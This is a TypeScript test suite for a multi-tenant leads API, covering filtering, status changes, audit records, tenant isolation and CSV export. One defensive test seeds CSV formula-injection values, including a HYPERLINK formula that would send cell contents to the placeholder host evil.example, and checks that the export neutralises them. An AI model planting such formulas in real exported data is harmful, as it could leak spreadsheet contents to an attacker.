import { newId } from '@trunkline/core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openOffice, type Json, type Office, type Tenant } from '../../../../tests/harness/office.ts'

let office: Office
let ours: Tenant
let theirs: Tenant
let number: { id: string; agentId: string; promptId: string }

beforeAll(async () => {
  office = await openOffice()
  ;[ours, theirs] = [await office.tenant(), await office.tenant()]
  number = await office.number(ours)
})
afterAll(() => office.close())

const get = (url: string, key = ours.key) => office.call('GET', url, { key })

async function lead(fields: Record<string, unknown> = {}, place = number): Promise<{ id: string; messageId: string; contactId: string }> {
  const { id: conversationId, contactId, messageId } = await office.conversation(ours, place, { text: 'I need 200 rolls every morning' })
  const row = { name: 'Ada', email: 'ada@example.com', urgency: 'high', fit: 'good', ...fields }
  const id = newId()
  await office.db.tenant(ours.tenantId, (tx) =>
    tx.query(
      `INSERT INTO leads (id, tenant_id, project_id, conversation_id, number_id, contact_id, name, email, company, urgency, fit, evidence_message_ids, extracted_seq, extracted_by)
       VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, 1, 'rules')`,
      [id, ours.tenantId, ours.projectId, conversationId, place.id, contactId, row.name, row.email, (row as Json).company ?? null, row.urgency, row.fit, [messageId]],
    ),
  )
  return { id, messageId, contactId }
}

describe('leads: what they are for', () => {
  it('are listed, filtered and moved on, with an audit entry', async () => {
    const own = await office.number(ours)
    const [hot, cold] = [await lead({}, own), await lead({ urgency: 'low' }, own)]
    const ids = async (query: string) => (await get(`/v1/leads?number_id=${own.id}&${query}`)).body.data.map((row: Json) => row.id)
    expect(await ids('')).toEqual([cold.id, hot.id])
    expect(await ids('urgency=high')).toEqual([hot.id])
    expect(await ids(`contact_id=${cold.contactId}`)).toEqual([cold.id])
    const moved = await office.call('PATCH', `/v1/leads/${hot.id}`, { key: ours.key, body: { status: 'contacted' } })
    expect(moved.body).toMatchObject({ status: 'contacted', name: 'Ada', evidence_message_ids: [hot.messageId] })
    expect(await ids('status=contacted')).toEqual([hot.id])
    const audit = await office.db.tenant(ours.tenantId, (tx) => tx.query<{ changes: Json }>('SELECT changes FROM audit_entries WHERE target_id = $1', [hot.id]))
    expect(audit.rows).toEqual([{ changes: { status: ['new', 'contacted'] } }])
  })

  it('show the messages that say so', async () => {
    const { id, messageId } = await lead()
    expect((await get(`/v1/leads/${id}/evidence`)).body.data).toMatchObject([{ id: messageId, content: { kind: 'text', text: 'I need 200 rolls every morning' } }])
    const reader = await ours.keyWith(['leads:read'])
    expect((await get(`/v1/leads/${id}/evidence`, reader)).body.data).toMatchObject([{ id: messageId, content: null }])
  })
})

describe('leads as CSV', () => {
  it('has every lead once, also when there is more than a page of them', async () => {
    const own = await office.number(ours)
    const { id } = await lead({}, own)
    await office.db.tenant(ours.tenantId, async (tx) => {
      // One conversation each, as the table demands; made in the database because 1,200 requests would prove nothing more.
      await tx.query(
        `WITH c AS (
           INSERT INTO conversations (id, tenant_id, project_id, number_id, contact_id, reply_to, status)
           SELECT gen_random_uuid(), l.tenant_id, l.project_id, l.number_id, l.contact_id, '{}', 'closed' FROM leads l, generate_series(1, 1200) WHERE l.id = $1 RETURNING *
         )
         INSERT INTO leads (id, tenant_id, project_id, conversation_id, number_id, contact_id, name, extracted_seq, extracted_by)
         SELECT gen_random_uuid(), c.tenant_id, c.project_id, c.id, c.number_id, c.contact_id, 'Grace', 1, 'rules' FROM c`,
        [id],
      )
    })
    const { body, headers } = await get(`/v1/leads/export.csv?number_id=${own.id}`)
    const lines = (body as string).trimEnd().split('\r\n')
    expect(headers).toMatchObject({ 'content-type': 'text/csv; charset=utf-8', 'content-disposition': 'attachment; filename="leads.csv"' })
    expect(lines).toHaveLength(1 + 1_201)
    expect(new Set(lines).size).toBe(1 + 1_201)
    expect(lines[0]).toMatch(/^id,status,name,email,/)
  })

  it('makes text of what a spreadsheet would run', async () => {
    const own = await office.number(ours)
    await lead({ name: '=HYPERLINK("http://evil.example/?"&A1)', company: '@SUM(1+1)', email: '+1' }, own)
    await lead({ name: 'plain, with "quotes"\nand lines' }, own)
    const { body } = await get(`/v1/leads/export.csv?number_id=${own.id}`)
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`)
    expect(body).toContain("'@SUM(1+1)")
    expect(body).toContain("'+1")
    expect(body).toContain('"plain, with ""quotes""\nand lines"')
  })

  it('is empty but for its header when there is nothing', async () => {
    const own = await office.number(ours)
    expect((await get(`/v1/leads/export.csv?number_id=${own.id}`)).body.split('\r\n')).toHaveLength(2)
  })
})

describe('leads: what is refused, and to whom', () => {
  it('unknown states and filters', async () => {
    const { id } = await lead()
    expect((await office.call('PATCH', `/v1/leads/${id}`, { key: ours.key, body: { status: 'sold' } })).body.error).toMatchObject({ code: 'invalid_request', param: 'body.status' })
    expect((await get('/v1/leads?urgency=now')).body.error.param).toBe('query.urgency')
    expect((await get('/v1/leads?cursor=abc')).body.error.param).toBe('query.cursor')
  })

  it('other tenants and keys of other projects', async () => {
    const { id } = await lead()
    const stranger = await ours.keyWith(['leads:read', 'leads:write'], await ours.project('staging'))
    for (const key of [theirs.key, stranger]) {
      expect((await get(`/v1/leads/${id}`, key)).status).toBe(404)
      expect((await get(`/v1/leads/${id}/evidence`, key)).status).toBe(404)
      expect((await office.call('PATCH', `/v1/leads/${id}`, { key, body: { status: 'won' } })).status).toBe(404)
      expect((await get('/v1/leads', key)).body.data).toEqual([])
      expect((await get('/v1/leads/export.csv', key)).body.split('\r\n')).toHaveLength(2)
    }
  })
})
